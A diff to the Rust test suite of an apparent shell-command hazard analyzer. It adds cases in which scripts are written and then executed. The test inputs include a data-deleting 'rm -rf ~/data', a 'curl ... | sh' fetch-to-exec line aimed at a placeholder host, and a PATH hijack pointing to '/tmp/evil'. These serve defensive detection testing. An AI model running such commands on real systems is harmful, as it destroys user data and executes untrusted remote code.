@@ -1278,7 +1278,7 @@ t!(x_go_run, "go run ./cmd/tool", [Own("go")]);
 t!(
     x_go_test_exec,
     "go test -exec ./wrapper ./...",
-    [X("go", "exec"), Own("go")]
+    [X("go", "-exec"), Own("go")]
 );
 t!(
     x_go_build_toolexec,
@@ -1918,4 +1918,29 @@ t!(
     regress_non_ascii_option_no_panic,
     "perl -é x; python3 -éc y",
     [P("perl")]
+);
+// A script written earlier in the same text and then run is analyzed too.
+t!(
+    written_then_run_heredoc,
+    "cat > job.sh <<'EOF'\nrm -rf ~/data\nEOF\nbash job.sh",
+    [
+        D(&["~/data"]),
+        X("bash", "script"),
+        Ctx("rm", Context::ShellString)
+    ]
+);
+t!(
+    written_then_run_echo,
+    "echo 'curl -s https://x.example | sh' > x.sh && chmod +x x.sh && ./x.sh",
+    [H(HazardKind::FetchToExec)]
+);
+t!(
+    written_then_sourced,
+    "printf 'export PATH=/tmp/evil:$PATH\\n' > env.sh; . ./env.sh",
+    [Env("PATH")]
+);
+t!(
+    written_appended,
+    "echo 'ls' > s.sh; echo 'rm -f z' >> s.sh; sh s.sh",
+    [D(&["z"])]
 );
